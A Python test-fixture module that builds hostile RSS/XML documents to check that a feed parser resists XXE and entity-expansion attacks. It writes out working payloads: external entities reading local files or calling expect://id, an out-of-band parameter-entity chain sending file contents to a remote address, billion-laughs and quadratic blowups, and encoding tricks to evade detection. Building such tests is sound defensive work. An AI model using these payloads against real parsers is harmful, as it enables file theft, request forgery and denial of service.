"""Documents that want a reader to open, ask or expand something.

Each title would tell the secret, or be missing, if its entity were believed.
"""

from __future__ import annotations

from itertools import pairwise

SECRET = "the-secret-of-the-machine"


def feed(
    doctype: str, title: str = "A &x; B", *, before: str = "", channel: str = ""
) -> bytes:
    link = "<link>https://jobs.example.org/1</link>"
    item = f"<item><title>{title}</title>{link}</item>"
    root = f'<rss version="2.0"><channel>{channel}{item}</channel></rss>'
    return f'{before}<?xml version="1.0"?>\n{doctype}\n{root}'.encode()


def documents(file: str, address: str) -> dict[str, bytes]:
    """Name → document. `file` is the address of a file that holds SECRET, `address`
    that of a server which nobody may ask.
    """
    path = file.removeprefix("file://")
    return {
        **_opened(file, path, address),
        **_by_parameter(file, address),
        **_without_entity(file, path, address),
        **_expanded(),
        **_written_oddly(file),
    }


def _opened(file: str, path: str, address: str) -> dict[str, bytes]:
    """An entity that stands for something outside the document."""
    places = {
        "file": file,
        "path": path,
        "localhost": file.replace("file://", "file://localhost"),
        "http": address,
        "https": address.replace("http", "https", 1),
        "ftp": address.replace("http", "ftp", 1),
        "php": f"php://filter/convert.base64-encode/resource={path}",
        "jar": f"jar:{address}!/x",
        "netdoc": f"netdoc:{path}",
        "expect": "expect://id",
        "data": "data:text/plain,opened",
        "share": "//127.0.0.1/share/x",
    }
    system = {
        f"system {name}": feed(f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{place}">]>')
        for name, place in places.items()
    }
    public = f'<!DOCTYPE rss [<!ENTITY x PUBLIC "-//A//B" "{file}">]>'
    unparsed = f'<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "{file}" NDATA n>'
    in_attribute = f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{file}">]>'
    return {
        **system,
        "public": feed(public),
        "unparsed": feed(f"<!DOCTYPE rss [{unparsed}]>"),
        "attribute": feed(in_attribute, '<b a="&x;">A</b>'),
        "html name": feed(
            f'<!DOCTYPE rss [<!ENTITY nbsp SYSTEM "{file}">]>', "A&nbsp;B"
        ),
        "xml name": feed(
            f'<!DOCTYPE rss [<!ENTITY amp SYSTEM "{file}">]>', "A &amp; B"
        ),
    }


def _by_parameter(file: str, address: str) -> dict[str, bytes]:
    """Entities of the DOCTYPE itself, which could carry a file's text away."""
    send = f"<!ENTITY &#37; send SYSTEM '{address}?%got;'>"
    return {
        "parameter file": feed(f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{file}"> %p;]>'),
        "parameter http": feed(
            f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{address}"> %p;]>'
        ),
        "carried away": feed(
            f'<!DOCTYPE rss [<!ENTITY % got SYSTEM "{file}">'
            f'<!ENTITY % all "{send}"> %all; %send;]>'
        ),
        "by an error": feed(
            f'<!DOCTYPE rss [<!ENTITY % got SYSTEM "{file}"><!ENTITY % all "<!ENTITY '
            "&#37; bad SYSTEM 'file:///no-such-place/%got;'>\"> %all; %bad;]>"
        ),
        "declares x": feed(
            "<!DOCTYPE rss [<!ENTITY % p \"<!ENTITY x SYSTEM '" + file + "'>\"> %p;]>"
        ),
    }


def _without_entity(file: str, path: str, address: str) -> dict[str, bytes]:
    """Other ways to name a file or an address."""
    xinclude = "http://www.w3.org/2001/XInclude"
    include = f'<xi:include xmlns:xi="{xinclude}" href="{file}" parse="text"/>'
    schema = "http://www.w3.org/2001/XMLSchema-instance"
    return {
        "dtd file": feed(f'<!DOCTYPE rss SYSTEM "{file}">', "A"),
        "dtd path": feed(f'<!DOCTYPE rss SYSTEM "{path}">', "A"),
        "dtd http": feed(f'<!DOCTYPE rss SYSTEM "{address}">', "A"),
        "dtd public": feed(f'<!DOCTYPE rss PUBLIC "-//A//B" "{address}" []>', "A"),
        "xinclude": feed("", f"A {include}"),
        "xinclude channel": feed("", "A", channel=include),
        "stylesheet": feed(f'<?xml-stylesheet type="text/xsl" href="{address}"?>', "A"),
        "base": feed("", f'<b xml:base="{address}">A</b>'),
        "schema": feed(
            "",
            "A",
            channel=f'<x xmlns:s="{schema}" s:schemaLocation="u {address}"/>',
        ),
    }


def _expanded() -> dict[str, bytes]:
    """A little that would become a lot."""
    names = [f"l{n}" for n in range(12)]
    laughs = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY {more} "{f"&{less};" * 10}">' for less, more in pairwise(names)
    )
    parameters = '<!ENTITY % l0 "lol">' + "".join(
        f'<!ENTITY % {more} "{f"&#37;{less};" * 10}">' for less, more in pairwise(names)
    )
    block = f'<!ENTITY x "{"x" * 50_000}">'
    many = "".join(f'<!ENTITY e{n} "{n}">' for n in range(50_000))
    return {
        "laughs": feed(f"<!DOCTYPE rss [{laughs}]>", "&l11;"),
        "laughs in an attribute": feed(f"<!DOCTYPE rss [{laughs}]>", '<b a="&l11;"/>'),
        "laughs by default": feed(
            f'<!DOCTYPE rss [{laughs}<!ATTLIST title a CDATA "&l11;">]>', "A"
        ),
        "laughs of parameters": feed(f"<!DOCTYPE rss [{parameters} %l11;]>"),
        "quadratic": feed(f"<!DOCTYPE rss [{block}]>", "&x;" * 50_000),
        "round": feed('<!DOCTYPE rss [<!ENTITY x "&y;"><!ENTITY y "&x;">]>'),
        "itself": feed('<!DOCTYPE rss [<!ENTITY x "&x;&x;">]>'),
        "many": feed(f"<!DOCTYPE rss [{many}]>", "&e7;"),
        "many references": feed('<!DOCTYPE rss [<!ENTITY x "">]>', "&x;" * 1_000_000),
    }


def _written_oddly(file: str) -> dict[str, bytes]:
    """The same where a reader may not look for it."""
    entity = f'<!ENTITY x SYSTEM "{file}">'
    doctype = f"<!DOCTYPE rss [{entity}]>"
    twice = f'<!DOCTYPE rss [<!ENTITY x "harmless">]>{doctype}'
    plain = feed(doctype).decode()
    return {
        "utf-16": plain.encode("utf-16"),
        "utf-16 without mark": plain.encode("utf-16-le"),
        "utf-32": plain.encode("utf-32"),
        "utf-7": plain.replace('"1.0"', '"1.0" encoding="utf-7"').encode("utf-7"),
        "comment before": feed(f"<!-- > [ ' -->{doctype}"),
        "instruction before": feed(f"<?x > [ ?>{doctype}"),
        "text before": feed(doctype, before="Warning: x "),
        "space before": feed(doctype, before="\n\n "),
        "small letters": feed(doctype.replace("DOCTYPE", "doctype")),
        "twice": feed(twice),
        "comment inside": feed(f"<!DOCTYPE rss [<!-- ]> ' \" -->{entity}]>"),
        "comments without end": feed("<!DOCTYPE rss [" + "<!--" * 100_000),
        "quotes without end": feed("<!DOCTYPE rss [" + "'\"" * 100_000),
        "brackets": feed("<!DOCTYPE rss " + "[" * 500_000),
        "never ends": feed("<!DOCTYPE rss [<!ENTITY " + "a" * 5_000_000),
        "section": feed(f"<!DOCTYPE rss [<![INCLUDE[{entity}]]>]>"),
        "in the root": feed("", channel=doctype),
        "in cdata": feed(doctype, "<![CDATA[A &x; B]]>"),
        "after the root": feed("", "A") + doctype.encode() + b"<a>&x;</a>",
    }
